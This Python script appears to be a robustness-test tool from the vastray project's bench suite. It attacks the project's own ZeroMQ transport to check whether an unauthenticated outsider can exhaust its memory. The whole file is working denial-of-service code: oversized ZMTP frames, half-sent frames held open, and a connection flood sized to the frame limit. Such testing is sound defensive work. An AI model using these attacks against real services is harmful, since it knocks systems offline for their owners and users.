"""An outsider that tries to make a vastray socket hold memory, for ``bench/faults.py``.

    python bench/fault_attacker.py ENDPOINT ATTACK [--frame-mb N] [--connections C] [--hold S]

It holds none of the render's credentials. Attacks (``ATTACK``):

- ``zmq-frames``: a ZeroMQ DEALER (no credentials) sends 3 messages of one ``--frame-mb``
  frame each: the probe's "3 frames of 900 MB from an outsider";
- ``zmq-wrong-secret``: the same with PLAIN and a wrong password;
- ``raw-frame``: over plain TCP, a ZMTP greeting that asks for PLAIN, then a command frame
  that declares ``--frame-mb`` and sends it all (what ZeroMQ reads before any check);
- ``raw-partial``: ``--connections`` TCP connections that each declare such a frame, send
  half of it and hold the connection open for ``--hold`` seconds;
- ``raw-flood``: ``--connections`` TCP connections (say 1,000) that each declare a handshake
  frame of the largest size the target accepts (``FRAME_LIMIT`` - 1), send all of it but its
  last byte (so the target holds it whole) and hold the connection for ``--hold`` seconds;
  ``--mechanism CURVE`` against a target with keys.

It sends from one 1 MB buffer, so the attacker itself stays small; it prints how many bytes
the target took before it closed each connection.
"""

from __future__ import annotations

import argparse
import socket
import struct
import sys
import time

import zmq

from vastray.transport.codec import FRAME_LIMIT

CHUNK = b"\0" * (1 << 20)


def greeting(mechanism: bytes) -> bytes:
    """A ZMTP 3.0 greeting as a client asking for ``mechanism``."""
    return (b"\xff" + b"\0" * 8 + b"\x7f" + b"\x03\x00" + mechanism.ljust(20, b"\0")
            + b"\0" + b"\0" * 31)


def raw(host: str, port: int, declared: int, send: int, connections: int, hold: float) -> int:
    """Open ``connections`` TCP connections, each declaring a long command frame of
    ``declared`` bytes and sending ``send`` of them; returns the bytes the target took."""
    taken, held = 0, []
    for _ in range(connections):
        conn = socket.create_connection((host, port), timeout=10)
        try:
            conn.sendall(greeting(b"PLAIN"))
            conn.sendall(b"\x06" + struct.pack(">Q", declared))  # long command frame
            left = send
            while left > 0:
                n = conn.send(CHUNK[:min(left, len(CHUNK))])
                left -= n
                taken += n
        except OSError:
            pass  # the target closed the connection: what it had taken is counted
        held.append(conn)
    time.sleep(hold)
    for conn in held:
        conn.close()
    return taken


def flood(host: str, port: int, connections: int, mechanism: bytes, hold: float) -> str:
    """``raw-flood``: what the target was sent and how many connections it let us keep."""
    declared = FRAME_LIMIT - 1
    held, sent, cut = [], 0, 0
    for _ in range(connections):
        try:
            conn = socket.create_connection((host, port), timeout=10)
        except OSError:
            cut += 1
            continue
        try:
            conn.sendall(greeting(mechanism))
            conn.sendall(b"\x06" + struct.pack(">Q", declared))
            conn.sendall(CHUNK[:declared - 1])
            sent += declared - 1
            held.append(conn)
        except OSError:
            cut += 1  # the target turned this connection away
            conn.close()
    time.sleep(hold)
    alive = 0
    for conn in held:
        alive += still_open(conn)
        conn.close()
    return (f"flood: {connections} connections, {sent / 1e6:.0f} MB of handshake frames sent, "
            f"{alive} still open after {hold:.0f} s, {cut} cut off while sending")


def still_open(conn: socket.socket) -> bool:
    """Whether the other end has not closed ``conn`` (what it sent before is read past)."""
    conn.setblocking(False)
    try:
        while conn.recv(1 << 16):
            pass
        return False  # the end of the stream
    except BlockingIOError:
        return True
    except OSError:
        return False


def zmq_frames(endpoint: str, frame_bytes: int, password: bytes | None, hold: float) -> None:
    ctx = zmq.Context()
    sock = ctx.socket(zmq.DEALER)
    sock.setsockopt(zmq.SNDHWM, 0)
    sock.setsockopt(zmq.LINGER, 0)
    if password is not None:
        sock.plain_username, sock.plain_password = b"vastray", password
    sock.connect(endpoint)
    frame = bytearray(frame_bytes)  # one buffer, sent three times without copies
    deadline = time.monotonic() + hold
    sent = 0
    while sent < 3 and time.monotonic() < deadline:  # a refused socket has no peer to send to
        try:
            sock.send_multipart([b"", frame], copy=False, flags=zmq.NOBLOCK)
            sent += 1
        except zmq.Again:
            time.sleep(0.05)
    time.sleep(max(0.0, deadline - time.monotonic()))
    print(f"queued {sent} of 3 messages")
    ctx.destroy(linger=0)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("endpoint")
    parser.add_argument("attack", choices=["zmq-frames", "zmq-wrong-secret", "raw-frame",
                                           "raw-partial", "raw-flood"])
    parser.add_argument("--mechanism", choices=["PLAIN", "CURVE"], default="PLAIN")
    parser.add_argument("--frame-mb", type=int, default=900)
    parser.add_argument("--connections", type=int, default=3)
    parser.add_argument("--hold", type=float, default=3.0)
    args = parser.parse_args(argv)
    frame = args.frame_mb * 1_000_000
    host, _, port = args.endpoint.removeprefix("tcp://").rpartition(":")
    if args.attack == "zmq-frames":
        zmq_frames(args.endpoint, frame, None, args.hold)
    elif args.attack == "zmq-wrong-secret":
        zmq_frames(args.endpoint, frame, b"0" * 32, args.hold)
    elif args.attack == "raw-flood":
        print(flood(host, int(port), args.connections, args.mechanism.encode(), args.hold))
    elif args.attack == "raw-frame":
        print(f"taken {raw(host, int(port), frame, frame, 1, args.hold)}")
    else:
        print(f"taken {raw(host, int(port), frame, frame // 2, args.connections, args.hold)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
